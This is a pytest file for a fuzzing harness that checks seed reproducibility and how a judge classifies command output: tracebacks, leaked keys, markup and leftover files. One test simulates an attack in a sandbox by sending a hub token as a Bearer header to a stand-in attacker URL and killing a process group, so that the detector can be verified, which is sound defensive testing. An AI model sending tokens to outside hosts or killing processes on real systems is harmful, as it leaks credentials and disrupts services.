"""The fuzzer itself: it makes the same cases again, and finds what it should.

`make fuzz` tries its cases; tests/test_documented_commands.py tries the first 10.
"""

import os
import signal
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from random import Random

import pytest

from benchmarks.fuzz import KIND_NAMES
from tests.support.fuzzing.box import Box, Step
from tests.support.fuzzing.campaign import MAKERS, Campaign
from tests.support.fuzzing.verdict import Outcome, judge, judge_case
from tests.support.live_runs import wait_for
from tests.support.repository import REPOSITORY

SEED = 1


@pytest.fixture(scope="module")
def campaign(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Campaign]:
    campaign = Campaign(tmp_path_factory.mktemp("fuzz"), REPOSITORY, SEED)
    campaign.prepare()
    yield campaign
    campaign.close()


@pytest.fixture
def box(campaign: Campaign, tmp_path: Path) -> Box:
    return campaign.make_box(tmp_path / "box", 7, campaign.templates)


@pytest.mark.parametrize("kind", KIND_NAMES)
def test_a_seed_makes_the_same_cases_again(campaign: Campaign, tmp_path: Path, kind: str) -> None:
    boxes = [campaign.make_box(tmp_path / name, 7, campaign.templates) for name in ("one", "two")]
    steps = [str(MAKERS[kind](Random("x"), box)).replace(str(box.path), "@") for box in boxes]
    names = [{name.replace(str(box.path), "@") for name in box.listing()} for box in boxes]
    assert (steps[0], names[0]) == (steps[1], names[1])


@pytest.mark.parametrize(
    ("status", "output", "errors", "kind"),
    [
        (1, "", "Traceback (most recent call last):\n  x\nValueError: x\n", "traceback"),
        (0, "the key is {key}", "", "leak"),
        (2, "", "emocore: no column '{secret}'\n", "leak"),
        (2, "", "emocore: one\nemocore: two\n", "wrong"),
        (0, "", "PerformanceWarning: slow\n", "wrong"),
        (0, "a \x1b[31mred label", "", "markup"),
        (0, "", "", None),
        (2, "", "note: a word before\nemocore: no such file; check the path\n", None),
    ],
)
def test_what_a_command_prints_is_judged(box: Box, status: int, output: str, errors: str, kind: str | None) -> None:
    words = {"key": box.wandb_key, "secret": box.secret}
    outcome = Outcome(status, output.format(**words), errors.format(**words), 0.1, False)
    found = judge(Step(["runs"]), outcome, box.listing(), box)
    assert [problem.kind for problem in found] == ([kind] if kind else [])


def test_what_a_refused_command_leaves_is_found(box: Box) -> None:
    before = box.listing()
    (box.runs / ".draft-x").mkdir()
    [problem] = judge(Step(["runs"]), Outcome(2, "", "emocore: no\n", 0.1, False), before, box)
    assert problem.kind == "left"


def test_a_key_sent_elsewhere_code_that_ran_and_a_killed_process_are_found(campaign: Campaign, box: Box) -> None:
    assert judge_case(box) == []
    (box.evidence / "a pickle").touch()
    request = urllib.request.Request(f"{box.attacker.url}/x", headers={"Authorization": f"Bearer {box.hub_token}"})
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(request)
    caught.value.close()
    os.killpg(box.bystanders.leader_pid, signal.SIGKILL)
    wait_for(lambda: not box.bystanders.are_alive, what="the end of a process")
    assert {problem.kind for problem in judge_case(box)} == {"code", "leak", "signal"}
    campaign.replace_bystanders()
